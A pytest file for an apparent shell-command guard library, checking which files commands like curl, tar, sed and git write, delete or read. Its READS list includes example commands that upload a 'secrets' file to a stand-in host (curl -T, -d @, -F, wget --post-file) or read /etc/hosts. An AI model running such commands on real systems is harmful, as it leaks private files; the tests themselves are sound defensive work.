"""What commands write, delete and read, program by program."""

import subprocess

import pytest
from hilum_guard import judge_command
from hilum_guard.effects.resolved_effects import resolve_effects


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    """A repository with two folders and a patch."""
    root = tmp_path_factory.mktemp("writes").resolve()
    for name in ("docs", "src", "secrets"):
        (root / name).mkdir()
        (root / name / "x.md").write_text("old\n")
    (root / "a.diff").write_text("--- a/docs/x.md\n+++ b/docs/x.md\n@@ -1 +1 @@\n-old\n+new\n")
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    return root


def effects(command, root):
    """The effects of a command."""
    read = judge_command(command, workspace=root)
    return resolve_effects(read.all_commands, str(root), complete=read.complete).effects


WRITES = [
    ("split -l 5 notes docs/part", {"docs/part", "docs"}),
    ("split notes", {"x", "."}),
    ("csplit -f docs/p notes 5", {"docs/p", "docs"}),
    ("csplit --prefix=docs/p notes 5", {"docs/p", "docs"}),
    ("ffmpeg -i in.mp4 -c copy docs/out.mp4", {"docs/out.mp4"}),
    ("ffmpeg -y -i in.mp4 docs/a.png src/b.mp3", {"docs/a.png", "src/b.mp3"}),
    ("ed docs/x.md", {"docs/x.md"}),
    ("ex -s -c 'w docs/y' -c q notes", {"docs/y", "notes"}),
    ("ex -sc 'w! docs/y|q' notes", {"docs/y", "notes"}),
    ("vim -c 'saveas docs/y' notes", {"docs/y", "notes"}),
    ("vim '+w docs/y' notes", {"docs/y", "notes"}),
    ("printf 'w docs/y\\nq\\n' | ed notes", {"docs/y", "notes"}),
    ("curl -o docs/x http://h.example/a", {"docs/x"}),
    ("curl -odocs/x http://h.example/a", {"docs/x"}),
    ("curl -sSLo docs/x http://h.example/a", {"docs/x"}),
    ("curl --output=docs/x http://h.example/a", {"docs/x"}),
    ("curl --output-dir docs -O http://h.example/a.txt", {"docs/a.txt"}),
    ("curl --output-dir docs -o b http://h.example/a.txt", {"docs/b"}),
    ("curl -sO http://h.example/a.txt?q=1", {"a.txt"}),
    ("cd docs && curl -LO http://h.example/a.txt", {"docs/a.txt"}),
    ("curl -OJ http://h.example/a.txt", {"a.txt", "."}),
    ("curl -D docs/h -c docs/c --trace docs/t http://h.example/", {"docs/h", "docs/c", "docs/t"}),
    ("wget -O docs/x http://h.example/a", {"docs/x"}),
    ("wget -qO docs/x http://h.example/a", {"docs/x"}),
    ("wget -P docs http://h.example/a.txt", {"docs/a.txt", "docs"}),
    ("wget http://h.example/a.txt", {"a.txt", "."}),
    ("wget -a docs/log -O - http://h.example/", {"docs/log"}),
    ("zip docs/x.zip notes", {"docs/x.zip"}),
    ("zip -r docs/x src", {"docs/x", "docs/x.zip"}),
    ("7z a docs/x.7z notes", {"docs/x.7z"}),
    ("7z x a.7z -odocs", {"docs"}),
    ("7za e a.7z", {"."}),
    ("tar -cf docs/x.tar notes", {"docs/x.tar"}),
    ("tar cf docs/x.tar notes", {"docs/x.tar"}),
    ("tar czvf docs/x.tgz notes", {"docs/x.tgz"}),
    ("tar --create --file=docs/x.tar notes", {"docs/x.tar"}),
    ("tar -xf a.tar -C docs", {"docs"}),
    ("tar xf a.tar", {"."}),
    ("tar -tf a.tar", set()),
    ("unzip a.zip -d docs", {"docs"}),
    ("unzip a.zip", {"."}),
    ("unzip -l a.zip", set()),
    ("unzip -p a.zip docs/x", set()),
    ("sed -i.bak s/a/b/ docs/x.md", {"docs/x.md", "docs/x.md.bak"}),
    ("sed -ni p docs/x.md", {"docs/x.md"}),
    ("sed -Ei 's/a/b/' docs/x.md", {"docs/x.md"}),
    ("sed -n -i -e p docs/x.md", {"docs/x.md"}),
    ("sed -i -es/a/b/ docs/x.md", {"docs/x.md"}),
    ("sed --in-place=.bak -e p docs/x.md src/x.md", {"docs/x.md", "docs/x.md.bak", "src/x.md", "src/x.md.bak"}),
    ("perl -pi.bak -e s/a/b/ docs/x.md", {"docs/x.md", "docs/x.md.bak"}),
    ("sort -o docs/x notes", {"docs/x"}),
    ("sort -uo docs/x notes", {"docs/x"}),
    ("sort -odocs/x notes", {"docs/x"}),
    ("sort notes -o docs/x", {"docs/x"}),
    ("echo a | tee -a docs/x src/y", {"docs/x", "src/y"}),
    ("dd if=notes of=docs/x bs=1", {"docs/x"}),
    ("install -m 644 notes docs/new", {"docs/new", "docs/new/notes"}),
    ("install -t docs notes", {"docs/notes", "docs"}),
    ("install -d docs/a src/b", {"docs/a", "src/b"}),
    ("rsync -a src/ docs/copy", {"docs/copy", "docs/copy/src"}),
    ("rsync -a --log-file=docs/log --backup-dir=docs/b src/ h.example:/x", {"docs/log", "docs/b"}),
    ("patch docs/x.md a.diff", {"docs/x.md"}),
    ("patch -p1 < a.diff", {"docs/x.md"}),
    ("patch -p1 -i a.diff", {"docs/x.md"}),
    ("patch -p1 -o docs/new -i a.diff", {"docs/x.md", "docs/new"}),
    ("git apply a.diff", {"docs/x.md"}),
    ("git apply < a.diff", {"docs/x.md"}),
    ("git apply --directory=src a.diff", {"src/docs/x.md"}),
    ("openssl rand -out docs/k 1", {"docs/k"}),
    ("openssl req -newkey rsa:2048 -keyout docs/k -out docs/c", {"docs/k", "docs/c"}),
    ("gpg -o docs/x -d a.gpg", {"docs/x"}),
    ("gpg --output docs/x --decrypt a.gpg", {"docs/x"}),
    ("gpg -c docs/x.md", {"docs/x.md.gpg", "docs/x.md.asc"}),
    ("pandoc a.md -o docs/x.html", {"docs/x.html"}),
    ("pandoc --extract-media=docs a.md", {"docs"}),
    ("convert a.png docs/b.png", {"docs/b.png"}),
    ("magick a.png -resize 5 docs/b.png", {"docs/b.png"}),
    ("mogrify -resize 5 docs/b.png", {"docs/b.png"}),
    ("sqlite3 docs/x.db 'select 1'", {"docs/x.db"}),
    ("script docs/log", {"docs/log"}),
    ("script -q -c ls docs/log", {"docs/log"}),
    ("script -c ls", {"typescript"}),
    ("truncate -s 0 docs/x", {"docs/x"}),
    ("time -o docs/t ls", {"docs/t"}),
    ("/usr/bin/time -o docs/t ls", {"docs/t"}),
    ("strace -o docs/t ls", {"docs/t"}),
    ("flock docs/lock ls", {"docs/lock"}),
    ("history -w docs/h", {"docs/h"}),
    ("gzip docs/x.md", {"docs/x.md.gz"}),
    ("gunzip docs/x.gz", {"docs/x"}),
    ("sdiff -o docs/x a b", {"docs/x"}),
    ("less -o docs/x notes", {"docs/x"}),
    ("mktemp -p docs", {"docs"}),
    ("gcc -c a.c -o docs/a.o", {"docs/a.o"}),
    ("git archive -o docs/x.zip HEAD", {"docs/x.zip"}),
    ("git clone -q . docs/copy", {"docs/copy"}),
    ("git worktree add docs/tree", {"docs/tree"}),
    ("git init docs/new", {"docs/new"}),
    ("git config -f docs/c a.b c", {"docs/c"}),
    ("git checkout-index -a --prefix=docs/out/", {"docs/out"}),
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), WRITES, ids=[command for command, _ in WRITES])
def test_a_command_writes(root, command, expected):
    """Every file that its words name as output, and those that it writes by its nature."""
    assert {effect.path for effect in effects(command, root) if effect.kind == "write"} == expected


DELETES = [
    ("zip -m docs/x.zip src/x.md", {"src/x.md"}),
    ("zip -rm x.zip docs", {"docs"}),
    ("7z a x.7z docs/x.md -sdel", {"docs/x.md"}),
    ("tar --remove-files -cf x.tar docs", {"docs"}),
    ("rsync -a --remove-source-files docs/ src/", {"docs"}),
    ("rsync -a --delete src/ docs/", {"docs"}),
    ("gzip docs/x.md", {"docs/x.md"}),
    ("split notes docs/part", set()),
]


@pytest.mark.parametrize(("command", "expected"), DELETES, ids=[command for command, _ in DELETES])
def test_a_command_deletes(root, command, expected):
    """Options that remove what was packed or copied."""
    assert {effect.path for effect in effects(command, root) if effect.kind == "delete"} == expected


READS = [
    ("mv secrets/x.md y", {"secrets/x.md"}),
    ("zip -r x.zip secrets", {"secrets"}),
    ("tar cf x.tar secrets", {"secrets"}),
    ("7z a x.7z secrets", {"secrets"}),
    ("openssl base64 -in secrets/x.md", {"secrets/x.md"}),
    ("curl -T secrets/x.md http://h.example/", {"secrets/x.md"}),
    ("curl -d @secrets/x.md http://h.example/", {"secrets/x.md"}),
    ("curl -F f=@secrets/x.md http://h.example/", {"secrets/x.md"}),
    ("curl file:///etc/hosts", {"/etc/hosts"}),
    ("wget --post-file=secrets/x.md http://h.example/", {"secrets/x.md"}),
    ("split secrets/x.md", {"secrets/x.md"}),
    ("ffmpeg -i secrets/x.md docs/y.mp4", {"secrets/x.md"}),
    ("gzip -c secrets/x.md", {"secrets/x.md"}),
]


@pytest.mark.parametrize(("command", "expected"), READS, ids=[command for command, _ in READS])
def test_a_command_reads(root, command, expected):
    """What it packs, sends, moves or converts."""
    assert {effect.path for effect in effects(command, root) if effect.kind == "read"} >= expected
